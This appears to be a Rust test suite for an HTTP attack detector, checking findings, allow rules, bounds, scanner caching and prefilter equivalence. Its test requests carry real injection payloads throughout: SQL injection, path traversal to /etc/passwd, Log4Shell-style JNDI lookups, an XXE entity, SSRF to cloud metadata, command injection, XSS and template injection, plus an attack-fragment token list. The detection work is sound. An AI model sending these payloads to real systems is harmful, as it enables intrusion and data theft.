//! The detector end to end: requests in, findings out, read like a specification; then the
//! properties: no panic and bounded output on any input, bounded normalisation, and the
//! prefilter checked against its slow twin (every class on every value).

use std::net::IpAddr;
use std::sync::OnceLock;

use proptest::prelude::*;

use crate::config::{AllowRule, DetectConfig};
use crate::normalize::{normalize, MAX_NORMALIZE_ROUNDS, PASSES};
use crate::{Class, Detector, Finding, Location, Request, ScanReport, MAX_EVIDENCE_BYTES};

/// What a test compares: (class, rule, location as written in records).
type Found = (Class, &'static str, String);

/// A request under construction.
struct Req {
    method: &'static str,
    target: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
    endpoint: Option<&'static str>,
    client: Option<IpAddr>,
}

fn get(target: &str) -> Req {
    Req {
        method: "GET",
        target: target.into(),
        headers: Vec::new(),
        body: Vec::new(),
        endpoint: None,
        client: None,
    }
}

fn post(target: &str, content_type: &str, body: &str) -> Req {
    get(target)
        .method("POST")
        .header("Content-Type", content_type)
        .body(body)
}

impl Req {
    fn method(mut self, m: &'static str) -> Req {
        self.method = m;
        self
    }
    fn header(mut self, n: &str, v: &str) -> Req {
        self.headers.push((n.into(), v.into()));
        self
    }
    fn body(mut self, b: &str) -> Req {
        self.body = b.as_bytes().to_vec();
        self
    }
    fn endpoint(mut self, e: &'static str) -> Req {
        self.endpoint = Some(e);
        self
    }
    fn client(mut self, ip: &str) -> Req {
        self.client = ip.parse().ok();
        self
    }

    fn scan_with(&self, det: &Detector) -> (Vec<Finding>, ScanReport) {
        self.scan_by(|req, out| det.scan(req, out))
    }

    /// The request scanned by a worker's scanner, with its memory.
    fn scan_by_scanner(&self, scanner: &mut crate::Scanner) -> (Vec<Finding>, ScanReport) {
        self.scan_by(|req, out| scanner.scan(req, out))
    }

    fn scan_by(
        &self,
        scan: impl FnOnce(&Request<'_>, &mut Vec<Finding>) -> ScanReport,
    ) -> (Vec<Finding>, ScanReport) {
        let headers: Vec<(&str, &str)> = self
            .headers
            .iter()
            .map(|(n, v)| (n.as_str(), v.as_str()))
            .collect();
        let req = Request {
            method: self.method,
            target: &self.target,
            headers: &headers,
            body: &self.body,
            body_truncated: false,
            endpoint: self.endpoint,
            client: self.client,
        };
        let mut out = Vec::new();
        let report = scan(&req, &mut out);
        (out, report)
    }

    /// (class, rule, location) of every finding at the default config.
    fn findings(&self) -> Vec<Found> {
        self.findings_with(&DetectConfig::default())
    }

    fn findings_with(&self, cfg: &DetectConfig) -> Vec<Found> {
        let det = Detector::new(cfg).expect("valid config");
        self.scan_with(&det)
            .0
            .into_iter()
            .map(|f| (f.class, f.rule, f.location.to_string()))
            .collect()
    }
}

fn one(class: Class, rule: &'static str, loc: &str) -> Vec<Found> {
    vec![(class, rule, loc.to_string())]
}

#[test]
fn each_place_a_value_can_hide() {
    let cases: Vec<(&str, Req, Vec<Found>)> = vec![
        ("query value", get("/search?q=1%27%20OR%20%271%27%3D%271"), one(Class::Sqli, "sqli.fingerprint", "query:q")),
        ("path segment", get("/api/users/1%20union%20select%201,2--/orders"), one(Class::Sqli, "sqli.fingerprint", "path")),
        ("decoded path", get("/static/..%2f..%2f..%2fetc/passwd"), one(Class::Traversal, "traversal.dot-dot", "path")),
        ("query name", get("/login?user[$ne]=x"), one(Class::Nosqli, "nosqli.operator-key", "query:user[$ne]")),
        ("user agent", get("/").header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"), one(Class::Scanner, "scanner.user-agent", "header:user-agent")),
        ("custom header", get("/").header("X-Api-Version", "${jndi:ldap://x.example/a}"), one(Class::Jndi, "jndi.lookup", "header:x-api-version")),
        ("cookie", get("/").header("Cookie", "sid=abc; pref=%3Cscript%3Ealert(1)%3C/script%3E"), one(Class::Xss, "xss.libinjection", "cookie:pref")),
        ("referer query", get("/").header("Referer", "https://shop.example/p?id=1;cat%20/etc/passwd"), one(Class::Cmdi, "cmdi.separator", "header:referer")),
        ("json at depth", post("/api/orders", "application/json", r#"{"items":[{"note":"ok"},{"note":"<svg onload=alert(1)>"}]}"#), one(Class::Xss, "xss.libinjection", "body:/items/1/note")),
        ("json key", post("/login", "application/json", r#"{"user":"a","password":{"$ne":null}}"#), one(Class::Nosqli, "nosqli.operator-key", "body:/password/$ne")),
        ("form field", post("/hook", "application/x-www-form-urlencoded", "url=http%3A%2F%2F169.254.169.254%2Flatest%2F"), one(Class::Ssrf, "ssrf.metadata", "body:url")),
        ("multipart part", post("/upload", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"msg\"\r\n\r\n{{7*7}}\r\n--b--\r\n"), one(Class::Ssti, "ssti.arithmetic", "body:msg")),
        ("xml body", post("/import", "application/xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"), one(Class::Xxe, "xxe.external-entity", "body")),
        ("graphql argument", post("/graphql", "application/json", r#"{"query":"{ user(name: \"x' OR 1=1--\") { id } }"}"#), one(Class::Sqli, "sqli.fingerprint", "body:/query")),
        ("plain text", post("/notes", "text/plain", "hello ${${lower:j}ndi:ldap://x/a}"), one(Class::Jndi, "jndi.lookup", "body")),
    ];
    for (what, req, want) in cases {
        assert_eq!(req.findings(), want, "{what}");
    }
}

#[test]
fn benign_requests_have_no_findings() {
    let cases = [
        get("/api/v1/orders/42?fields=id,total&sort=-created_at"),
        get("/search?q=O%27Brien&page=2").header("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"),
        post("/api/users/7", "application/json", r#"{"name":"Seán O'Neill","bio":"I select the best and drop the rest; union rep.","select":["id"],"order":"desc"}"#),
        post("/graphql", "application/json", r#"{"query":"query Q($id: ID!) { order(id: $id) { total } }","variables":{"id":"42"}}"#),
        post("/files", "application/json", r#"{"path":"C:\\Users\\alice\\Documents\\Q3 report.xlsx"}"#),
        get("/preview?url=https%3A%2F%2Fwww.example.com%2Farticle%3Fid%3D5"),
        get("/").header("sec-ch-ua", "\"Chromium\";v=\"124\", \"Not-A.Brand\";v=\"99\"").header("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
    ];
    for req in cases {
        assert_eq!(req.findings(), vec![], "{}", req.target);
    }
}

/// The rules' regexes are compiled when a value first reaches them: plain traffic, whose
/// values the prefilter rejects, never pays for compiling them.
#[test]
fn regexes_are_compiled_when_a_value_reaches_them() {
    let det = Detector::new(&DetectConfig::default()).expect("default config");
    let plain = get("/api/v1/orders/42?fields=id,total&sort=-created_at")
        .header(
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0",
        )
        .header("Cookie", "sid=8f3a9c2e71d04b5a");
    assert!(plain.scan_with(&det).0.is_empty());
    assert_eq!(det.compiled_shapes(), 0, "plain request");
    let ssti = get("/greet?name=%7B%7B7*7%7D%7D");
    assert_eq!(ssti.scan_with(&det).0.len(), 1);
    assert!(
        det.compiled_shapes() > 0,
        "a template value reaches the SSTI rules"
    );
    let level_1 = DetectConfig {
        paranoia: 1,
        ..DetectConfig::default()
    };
    let det = Detector::new(&level_1).expect("valid config");
    det.compile_rules();
    assert_eq!(
        det.compiled_shapes(),
        9,
        "compile_rules: the level-1 regex rules (xss 3, nosqli 2, ssti 4), no other"
    );
}

#[test]
fn findings_are_deduplicated_and_bounded() {
    // The same attack twice at one place is one finding; at another place it is another.
    let req = get("/s?q=%3Cscript%3E&q=%3Cscript%3E&r=%3Cscript%3E");
    assert_eq!(
        req.findings(),
        vec![
            (Class::Xss, "xss.libinjection", "query:q".into()),
            (Class::Xss, "xss.libinjection", "query:r".into())
        ]
    );

    let many: String = (0..40).map(|i| format!("p{i}=%3Cscript%3E&")).collect();
    let cfg = DetectConfig {
        max_findings: 5,
        ..DetectConfig::default()
    };
    let det = Detector::new(&cfg).unwrap();
    let (found, report) = get(&format!("/s?{many}")).scan_with(&det);
    assert_eq!(found.len(), 5);
    assert_eq!(report.findings_dropped, 35);
}

#[test]
fn bounds_stop_the_scan_and_say_so() {
    let cfg = DetectConfig {
        max_fields: 4,
        ..DetectConfig::default()
    };
    let det = Detector::new(&cfg).unwrap();
    let (found, report) = get("/a?x=1&y=2&z=%3Cscript%3E").scan_with(&det);
    assert!(
        found.is_empty(),
        "the attack is past the field bound: {found:?}"
    );
    assert!(report.stopped_at_bound);
    assert_eq!(report.values, 4);

    let cfg = DetectConfig {
        max_value_bytes: 8,
        ..DetectConfig::default()
    };
    let det = Detector::new(&cfg).unwrap();
    let (found, report) = get("/a?x=aaaaaaaaaaaaaaaaaaaa%3Cscript%3E").scan_with(&det);
    assert!(found.is_empty());
    assert_eq!(report.values_cut, 1);
}

#[test]
fn evidence_is_short_and_from_the_value() {
    let long = "x".repeat(300);
    let det = Detector::new(&DetectConfig::default()).unwrap();
    let (found, _) = get(&format!("/s?q=%3Cscript%3E{long}")).scan_with(&det);
    assert_eq!(found.len(), 1);
    assert!(found[0].evidence.len() <= MAX_EVIDENCE_BYTES);
    assert!(
        found[0].evidence.starts_with("<script>"),
        "{}",
        found[0].evidence
    );
}

#[test]
fn allow_rules_by_endpoint_param_client_and_class() {
    let xss =
        get("/cms?html=%3Cscript%3Ealert(1)%3C/script%3E&q=1%27%20or%201=1--").endpoint("GET /cms");
    let rule = |r: AllowRule| DetectConfig {
        allow: vec![r],
        ..DetectConfig::default()
    };
    let all = xss.findings();
    assert_eq!(all.len(), 2, "{all:?}");

    let by_param = rule(AllowRule {
        endpoints: vec!["GET /cms*".into()],
        params: vec!["html".into()],
        classes: vec!["xss".into()],
        ..AllowRule::default()
    });
    assert_eq!(
        xss.findings_with(&by_param),
        vec![(Class::Sqli, "sqli.fingerprint", "query:q".into())]
    );

    let other_endpoint = rule(AllowRule {
        endpoints: vec!["POST /cms".into()],
        ..AllowRule::default()
    });
    assert_eq!(xss.findings_with(&other_endpoint).len(), 2);

    let scanner = rule(AllowRule {
        clients: vec!["10.9.0.0/16".into()],
        ..AllowRule::default()
    });
    let from_scanner = get("/s?q=%3Cscript%3E").client("10.9.1.2");
    let det = Detector::new(&scanner).unwrap();
    let (found, report) = from_scanner.scan_with(&det);
    assert!(found.is_empty() && report.request_allowed);
    assert_eq!(
        get("/s?q=%3Cscript%3E")
            .client("10.8.1.2")
            .findings_with(&scanner)
            .len(),
        1
    );
}

#[test]
fn classes_off_enabled_off_and_paranoia() {
    let req = get("/s?q=%3Cscript%3E&f=..%2f..%2fetc%2fpasswd");
    let mut cfg = DetectConfig::default();
    cfg.classes.xss = false;
    assert_eq!(
        req.findings_with(&cfg),
        vec![(Class::Traversal, "traversal.dot-dot", "query:f".into())]
    );
    let off = DetectConfig {
        enabled: false,
        ..DetectConfig::default()
    };
    assert!(req.findings_with(&off).is_empty());

    let one_level = get("/f?name=../config.yml");
    assert!(one_level
        .findings_with(&DetectConfig {
            paranoia: 1,
            ..DetectConfig::default()
        })
        .is_empty());
    assert_eq!(
        one_level.findings(),
        vec![(Class::Traversal, "traversal.dot-dot", "query:name".into())]
    );
}

#[test]
fn bad_config_is_an_error() {
    assert!(Detector::new(&DetectConfig {
        paranoia: 9,
        ..DetectConfig::default()
    })
    .is_err());
}

#[test]
fn detector_is_shared_across_threads() {
    fn check<T: Send + Sync>() {}
    check::<Detector>();
    fn sent<T: Send>() {}
    sent::<crate::Scanner>();
}

/// A scanner reads a clean value once: the next request that carries it is served from its
/// memory, with the same findings as the detector's; a value with a finding is read every
/// time.
#[test]
fn scanner_remembers_clean_values_only() {
    let det = Detector::new(&DetectConfig::default()).expect("default config");
    let mut scanner = det.scanner();
    let ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36";
    let req = get("/api/v1/users/7?q=1%27%20or%201=1--").header("User-Agent", ua);
    let scan = |s: &mut crate::Scanner| {
        let headers: Vec<(&str, &str)> = req
            .headers
            .iter()
            .map(|(n, v)| (n.as_str(), v.as_str()))
            .collect();
        let r = Request {
            method: "GET",
            target: &req.target,
            headers: &headers,
            body: &[],
            body_truncated: false,
            endpoint: None,
            client: None,
        };
        let mut out = Vec::new();
        let report = s.scan(&r, &mut out);
        (keys(&out), report)
    };
    let reports: Vec<_> = (0..3).map(|_| scan(&mut scanner)).collect();
    let (plain, plain_report) = req.scan_with(&det);
    for (found, _) in &reports {
        assert_eq!(found, &keys(&plain), "the attack is found every time");
    }
    assert_eq!(reports[0].0.len(), 1);
    let cached: Vec<u32> = reports.iter().map(|(_, r)| r.values_cached).collect();
    // Kept once found clean twice: the path as a group (its 5 values, whole and segments)
    // and the User-Agent. Not the attack, nor the header name, nor the parameter's name, a
    // plain word: those are decided without the memory.
    assert_eq!(cached, vec![0, 0, 6]);
    assert_eq!(plain_report.values_cached, 0, "a detector keeps no memory");
    for (_, r) in &reports {
        assert_eq!(r.values, plain_report.values);
    }
}

/// The SSRF rule reads a value's name from level 2: a bare internal host found clean under
/// an ordinary name is still found under a URL-named one, and a value found clean as one kind
/// is read again as another.
#[test]
fn scanner_memory_is_keyed_by_what_the_verdict_reads() {
    let det = Detector::new(&DetectConfig::default()).expect("default config");
    let mut scanner = det.scanner();
    let scan = |s: &mut crate::Scanner, target: &str| {
        let mut out = Vec::new();
        let _ = s.scan(&Request::get(target), &mut out);
        keys(&out)
    };
    for _ in 0..3 {
        assert_eq!(scan(&mut scanner, "/a?note=169.254.169.254"), vec![]);
    }
    let (url_named, _) = get("/a?webhook=169.254.169.254").scan_with(&det);
    assert!(!url_named.is_empty(), "the plain detector finds it");
    assert_eq!(
        scan(&mut scanner, "/a?webhook=169.254.169.254"),
        keys(&url_named)
    );
    // `$ne` is clean as a path segment and an operator as a JSON member name.
    for _ in 0..3 {
        assert_eq!(scan(&mut scanner, "/$ne"), vec![]);
    }
    let mut out = Vec::new();
    let headers = [("Content-Type", "application/json")];
    let body = br#"{"$ne":1}"#;
    let req = Request {
        method: "POST",
        target: "/$ne",
        headers: &headers,
        body,
        body_truncated: false,
        endpoint: None,
        client: None,
    };
    let _ = scanner.scan(&req, &mut out);
    assert!(
        out.iter().any(|f| f.class == Class::Nosqli),
        "read again as a member name: {out:?}"
    );
}

/// A group of values the scanner found clean before (the path, the query string, a
/// `Cookie` header) counts its values and bytes as reading them would, and is taken only
/// where reading them one by one would read them all: at every budget the scanner's report
/// and findings are the detector's, however often the requests repeat.
#[test]
fn scanner_groups_keep_the_budgets() {
    // The same query string and cookies after more and fewer values: a group learnt where
    // it fit is met where it does not.
    let cookie = "session=AbCdEf0123456789; locale=en-US";
    let reqs = [
        get("/p?page=2&per_page=50&sort=price").header("Cookie", cookie),
        get("/api/v1/products/all?page=2&per_page=50&sort=price")
            .header("X-A", "v")
            .header("Cookie", cookie),
        get("/api/v1/users/7?q=1%27%20or%201=1--").header("Cookie", "sid=x; theme=dark"),
    ];
    let budgets = (1..=16)
        .map(|fields| (fields, 1 << 20))
        .chain((1..=70).map(|bytes| (1 << 10, bytes)));
    for (max_fields, max_request_scan_bytes) in budgets {
        let cfg = DetectConfig {
            max_fields,
            max_request_scan_bytes,
            ..DetectConfig::default()
        };
        let det = Detector::new(&cfg).expect("valid config");
        let mut scanner = det.scanner();
        for round in 0..4 {
            for req in &reqs {
                let (found, report) = req.scan_by_scanner(&mut scanner);
                let (plain, plain_report) = req.scan_with(&det);
                let at = format!(
                    "{max_fields} fields, {max_request_scan_bytes} bytes, round {round}, {}",
                    req.target
                );
                assert_eq!(found, plain, "{at}");
                assert_eq!(report.values, plain_report.values, "{at}");
                assert_eq!(
                    report.stopped_at_bound, plain_report.stopped_at_bound,
                    "{at}"
                );
                assert_eq!(report.values_cut, plain_report.values_cut, "{at}");
            }
        }
    }
}

#[test]
fn location_names_are_lower_case_headers() {
    let f = get("/").header("X-Forwarded-For", "1' or 1=1--").findings();
    assert_eq!(
        f,
        vec![(
            Class::Sqli,
            "sqli.fingerprint",
            "header:x-forwarded-for".into()
        )]
    );
    assert_eq!(
        Location::Header("x-forwarded-for".into()).to_string(),
        "header:x-forwarded-for"
    );
}

/// Shapes that carry no quote, no punctuation and no keyword as a whole word still wake
/// their class (SQL statement shapes, a script URI spelled out with spaces): the prefilter
/// finds what its slow twin finds. Each was a miss the property tests found.
#[test]
fn shapes_without_punctuation_wake_their_class() {
    let (fast, slow) = detectors(2);
    for v in [
        "<<unionselect=",
        "x join information_schema.tables",
        "x xp_cmdshell dir",
        "x sp_executesql y",
        "x utl_http.request y",
        "j a v a s c r i p t :alert(1)",
    ] {
        let req = get(&format!(
            "/s?q={}",
            v.replace(' ', "%20").replace(';', "%3B")
        ));
        let (a, _) = req.scan_with(fast);
        let (b, _) = req.scan_with(slow);
        assert!(!b.is_empty(), "{v}: the slow twin finds it");
        assert_eq!(keys(&a), keys(&b), "{v}");
    }
}

/// Plain values (numbers, words, ids, hosts, the few plain SQL and script words) and short
/// tricky ones, in a query value under a plain name and under names the SSRF rule reads, as a
/// JSON key, a path segment and a User-Agent, at every level: the prefilter finds what its
/// slow twin finds. The misses the property tests found were of this kind.
#[test]
fn plain_values_match_exhaustive_scan() {
    let mut bad = Vec::new();
    for level in 1..=4u8 {
        let (fast, slow) = detectors(level);
        for v in [
            "@@version",
            "1-1",
            "version",
            "xp_cmdshell",
            "-moz-binding",
            "document.cookie",
            "string.fromcharcode",
            "utl_http.request",
            "sp_executesql",
            "1.1",
            "user@example.com",
            "0x1a",
            "1e1",
            "char",
            "sleep",
            "benchmark",
            "null",
            "true",
            "1,1",
            "1.e1",
            "a.b",
            "alert",
            "1@@version",
            "version()",
            "data:text/html,x",
            "view-source:x",
            "behavior: url(x)",
            "x alert (1)",
            "x document.cookie y",
            "prompt (1)",
            "x=1 or 1",
            "etc",
            "win.ini",
            "id",
            "whoami",
            "uname",
            "passwd",
            "boot.ini",
            "web.config",
            ".htaccess",
            "WEB-INF",
            "0x2e0x2e",
            "x.oastify.com",
            "localhost",
            "127.0.0.1",
            "0177.0.0.1",
            "2130706433",
            "0x7f000001",
            "169.254.169.254",
            "metadata.google.internal",
            "10.0.0.1",
            "file",
            "gopher",
            "ldap",
        ] {
            for name in ["q", "url", "host"] {
                let req = get(&format!(
                    "/s?{name}={}",
                    v.replace(' ', "%20").replace(';', "%3B")
                ));
                let (a, _) = req.scan_with(fast);
                let (b, _) = req.scan_with(slow);
                if keys(&a) != keys(&b) {
                    bad.push(format!(
                        "L{level} {name}={v}: fast {:?} slow {:?}",
                        keys(&a),
                        keys(&b)
                    ));
                }
            }
            for (kind_name, req) in [
                (
                    "json key",
                    post(
                        "/j",
                        "application/json",
                        &serde_json::json!({ v: 1 }).to_string(),
                    ),
                ),
                ("segment", get(&format!("/a/{}", v.replace(' ', "%20")))),
                ("ua", get("/").header("User-Agent", v)),
            ] {
                let (a, _) = req.scan_with(fast);
                let (b, _) = req.scan_with(slow);
                if keys(&a) != keys(&b) {
                    bad.push(format!(
                        "L{level} {kind_name} {v}: fast {:?} slow {:?}",
                        keys(&a),
                        keys(&b)
                    ));
                }
            }
        }
    }
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

// ---------------------------------------------------------------------------------------------
// Properties

/// Cases per property: enough to reach every rule's branches from the token soup, small
/// enough for CI.
const CASES: u32 = 256;

fn proptest_config() -> ProptestConfig {
    let cases = std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(CASES);
    ProptestConfig::with_cases(cases)
}

/// Fragments of attacks, of their encodings and of ordinary text; soups of them reach the
/// rules far more often than random bytes do.
const TOKENS: &[&str] = &[
    "1",
    "'",
    "\"",
    " ",
    "or",
    "and",
    "union",
    "select",
    "from",
    "<",
    ">",
    "script",
    "img",
    "onerror",
    "=",
    "../",
    "..",
    "/",
    "\\",
    "%2e",
    "%2f",
    "%25",
    "%c0%ae",
    "etc/passwd",
    ";",
    "|",
    "&",
    "`",
    "$",
    "(",
    ")",
    "{",
    "}",
    "{{",
    "7*7",
    "${",
    "jndi:",
    "lower:",
    "::-",
    "ldap:",
    "://",
    "127.0.0.1",
    "localhost",
    "169.254.169.254",
    "http",
    "file:",
    "$ne",
    "[",
    "]",
    "whoami",
    "cat",
    "id",
    "ls",
    "-",
    ",",
    ".",
    "a",
    "x",
    "\n",
    "%00",
    "&#x3c;",
    "&lt;",
    "\\u003c",
    "--",
    "/*",
    "*/",
    "#",
    "<!ENTITY",
    "SYSTEM",
    "<!DOCTYPE",
    "é",
    "\u{FF0E}",
    "0x7f",
    "sleep(",
    "this.",
    "return",
    "sqlmap",
    "oastify.com",
    "%u002e",
    "=",
    "+",
    "join",
    "information_schema",
    "xp_cmdshell",
    "utl_http",
    "java",
    "script",
    ":",
    "\t",
];

fn soup() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(TOKENS), 0..14).prop_map(|t| t.concat())
}

/// The requests a soup is placed in: a query value, a JSON string, a header, a text body.
fn requests(s: &str) -> Vec<Req> {
    let enc: String = s.bytes().map(|b| format!("%{b:02X}")).collect();
    vec![
        get(&format!("/a/{enc}?v={enc}")),
        post(
            "/j",
            "application/json",
            &serde_json::json!({ "k": { "v": s } }).to_string(),
        ),
        get("/").header("X-Thing", s).header("User-Agent", s),
        post("/t", "text/plain", s),
        get(&format!("/q?{enc}=1&u{enc}[x]=2"))
            .header("Cookie", &format!("a={enc}; b=1"))
            .header("Referer", &format!("https://x.example/p?r={enc}"))
            .header("Accept", s),
        post(
            "/k",
            "application/json",
            &serde_json::json!({ s: 1, "o": { s: [s] } }).to_string(),
        ),
    ]
}

/// The detector at each paranoia level (index 0 for level 1), with `max_findings` 64, and its
/// slow twin; built once (building compiles every rule).
fn detectors(paranoia: u8) -> &'static (Detector, Detector) {
    static ALL: OnceLock<Vec<(Detector, Detector)>> = OnceLock::new();
    let all = ALL.get_or_init(|| {
        (1..=4)
            .map(|p| {
                let cfg = DetectConfig {
                    paranoia: p,
                    max_findings: 64,
                    ..DetectConfig::default()
                };
                (
                    Detector::new(&cfg).unwrap(),
                    Detector::new(&cfg).unwrap().without_prefilter(),
                )
            })
            .collect()
    });
    &all[usize::from(paranoia - 1)]
}

fn keys(found: &[Finding]) -> Vec<(Class, &'static str, Location)> {
    found
        .iter()
        .map(|f| (f.class, f.rule, f.location.clone()))
        .collect()
}

proptest! {
    #![proptest_config(proptest_config())]

    /// Any bytes anywhere: no panic, findings bounded, evidence short, no duplicates.
    #[test]
    fn scan_never_panics_and_stays_bounded(
        target in prop::collection::vec(any::<u8>(), 0..200),
        header in prop::collection::vec(any::<u8>(), 0..200),
        body in prop::collection::vec(any::<u8>(), 0..400),
        ct in prop::sample::select(&["application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "text/plain", "application/graphql", "image/png", ""][..]),
        paranoia in 1u8..=4,
    ) {
        let target = format!("/{}", String::from_utf8_lossy(&target));
        let header = String::from_utf8_lossy(&header).into_owned();
        let det = &detectors(paranoia).0;
        let headers = [("User-Agent", header.as_str()), ("Content-Type", ct), ("Cookie", header.as_str()), ("X-A", header.as_str())];
        let req = Request { method: "POST", target: &target, headers: &headers, body: &body, body_truncated: true, endpoint: None, client: None };
        let mut out = Vec::new();
        let _ = det.scan(&req, &mut out);
        prop_assert!(out.len() <= 64);
        for f in &out {
            prop_assert!(f.evidence.len() <= MAX_EVIDENCE_BYTES);
        }
        let mut k = keys(&out);
        k.sort_by_key(|(c, r, l)| (*c, *r, l.to_string()));
        let n = k.len();
        k.dedup();
        prop_assert_eq!(k.len(), n, "duplicate findings");
    }

    /// Normalisation runs a bounded number of linear passes and never grows a value.
    #[test]
    fn normalisation_is_bounded(raw in prop::collection::vec(any::<u8>(), 0..300), soup in soup()) {
        for input in [raw, soup.into_bytes()] {
            let n = normalize(&input);
            prop_assert!(n.passes <= MAX_NORMALIZE_ROUNDS * PASSES);
            prop_assert!(n.bytes.len() <= input.len());
        }
    }

    /// The prefilter and the plain-value fast path never hide a finding: the detector finds
    /// the same as its slow twin, which runs every class on every value, at every level.
    #[test]
    fn prefilter_matches_exhaustive_scan(s in soup(), paranoia in 1u8..=4) {
        let (fast, slow) = detectors(paranoia);
        for req in requests(&s) {
            let (a, _) = req.scan_with(fast);
            let (b, _) = req.scan_with(slow);
            prop_assert_eq!(keys(&a), keys(&b), "{:?}", s);
        }
    }

    /// A scanner's memory of clean values never hides a finding nor changes one: requests
    /// scanned in turn by one scanner, each value seen again and again (the same soup under
    /// ordinary and URL-named parameters, as a path segment, a name and a value), give exactly
    /// the findings of the same detector without memory, and what the slow twin gives.
    #[test]
    fn scanner_memory_matches_exhaustive_scan(
        soups in prop::collection::vec(soup(), 1..4),
        order in prop::collection::vec(0usize..96, 1..24),
        paranoia in 1u8..=4,
    ) {
        let (fast, slow) = detectors(paranoia);
        let mut scanner = fast.scanner();
        let reqs: Vec<Req> = soups.iter().flat_map(|s| requests(s).into_iter().chain(renamed(s))).collect();
        for i in order {
            let req = &reqs[i % reqs.len()];
            let (a, report) = req.scan_by_scanner(&mut scanner);
            let (plain, plain_report) = req.scan_with(fast);
            prop_assert_eq!(&a, &plain, "{:?}", req.target);
            prop_assert_eq!(report.values, plain_report.values);
            prop_assert_eq!(report.stopped_at_bound, plain_report.stopped_at_bound);
            let (b, _) = req.scan_with(slow);
            prop_assert_eq!(keys(&a), keys(&b), "{:?}", req.target);
        }
    }
}

/// The same soup where its verdict could depend on the name or the kind of place: under a
/// URL-named parameter and an ordinary one, in a JSON member named for a URL, as a form field.
fn renamed(s: &str) -> Vec<Req> {
    let enc: String = s.bytes().map(|b| format!("%{b:02X}")).collect();
    vec![
        get(&format!("/{enc}?url={enc}&v={enc}")),
        post(
            "/j",
            "application/json",
            &serde_json::json!({ "webhook_url": s, "v": s, s: s }).to_string(),
        ),
        post(
            "/f",
            "application/x-www-form-urlencoded",
            &format!("{enc}={enc}&callback={enc}"),
        ),
    ]
}
